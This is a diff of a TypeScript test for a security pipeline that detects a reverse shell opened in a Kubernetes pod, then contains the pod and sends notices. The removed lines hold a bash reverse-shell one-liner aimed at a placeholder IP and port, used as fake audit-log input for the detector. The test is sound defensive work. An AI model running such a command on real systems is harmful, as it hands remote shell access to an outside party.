@@ -1,28 +1,25 @@
 import { strict as assert } from 'node:assert';
-import { execEntry } from '../../local/scenarios/exec-entry.ts';
+import { reverseShell } from '../../local/scenarios/reverse-shell.ts';
 import type { Stack } from '../../local/stack.ts';
-import { SHOP } from '../../local/world/seed.ts';
 import { finding } from '../../shared/model/finding.ts';
 import type { Topic } from '../../shared/model/ids.ts';
 import type { Incident } from '../../shared/model/incident.ts';
 import { notice } from '../../shared/model/notice.ts';
-import { CONTAIN, type Desk, podNamed } from '../kit/containment.ts';
+import { CONTAIN } from '../kit/containment.ts';
 import { describeWith } from '../require.ts';
 import { changesBy, isCarriedOut, stackFor, until } from './kit.ts';
 
 const FLOW = ['detect-audit-log', 'decide', 'contain', 'notify'] as const;
-const COMMAND = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
 
-/** Somebody opens a reverse shell in a pod: gives the incident once it is carried out. */
-const attacked = async (stack: Stack, desk: Desk): Promise<{ incident: Incident; pod: string }> => {
-  const pod = podNamed(desk, 'shop', 'cart').metadata.name;
-  const who = { at: Date.now(), principal: 'ana@example.com', cluster: SHOP, namespace: 'shop', pod };
-  await stack.publish('audit-log', execEntry({ ...who, command: COMMAND }));
-  const incident = await until(async () => {
+/** Plays the reverse shell of the demo; gives the incident once it is carried out. */
+const attacked = async (stack: Stack): Promise<Incident> => {
+  for (const { topic, body, attributes } of reverseShell.events(stack.world, Date.now())) {
+    await stack.publish(topic, body, attributes);
+  }
+  return until(async () => {
     const [first] = (await stack.stores.incidents.list({})).items;
     return isCarriedOut(first) && first;
   });
-  return { incident, pod };
 };
 
 // One direction, over processes: audit log entry, finding, incident, decision, plan, steps, notices.
@@ -32,9 +29,9 @@ describe('from an audit log entry to a contained pod', function () {
   for (const copies of [1, 5]) {
     it(`one incident, one change each, where every message comes ${copies === 1 ? 'once' : `${copies} times`}`, async () => {
       await using run = await stackFor({ functions: FLOW });
-      const { stack, desk } = run;
+      const { stack } = run;
       stack.broker?.setFaults({ copies: () => copies });
-      const { incident, pod } = await attacked(stack, desk);
+      const incident = await attacked(stack);
       await stack.idle();
 
       const bodies = (topic: Topic): unknown[] =>
@@ -42,7 +39,7 @@ describe('from an audit log entry to a contained pod', function () {
       const findings = bodies('findings').map((body) => finding.parse(body));
       assert.ok(findings.some(({ rule }) => rule === 'exec-reverse-shell'));
       assert.equal((await stack.stores.incidents.list({})).items.length, 1);
-      assert.equal(incident.target.pod, pod);
+      assert.deepEqual(reverseShell.missing([incident]), []);
       assert.equal(incident.state, 'contained');
       assert.deepEqual(incident.decision?.verdict, 'act');
       const kinds = bodies('notices').map((body) => notice.parse(body).kind);
@@ -60,8 +57,8 @@ describeWith('pubsub', 'the same over the Pub/Sub emulator', function () {
 
   it('contains the pod, and changes nothing twice', async () => {
     await using run = await stackFor({ functions: FLOW, pubsub: 'emulator' });
-    const { stack, desk } = run;
-    const { incident } = await attacked(stack, desk);
+    const { stack } = run;
+    const incident = await attacked(stack);
     assert.equal(incident.state, 'contained');
     await stack.idle();
     const changes = changesBy(stack, CONTAIN);
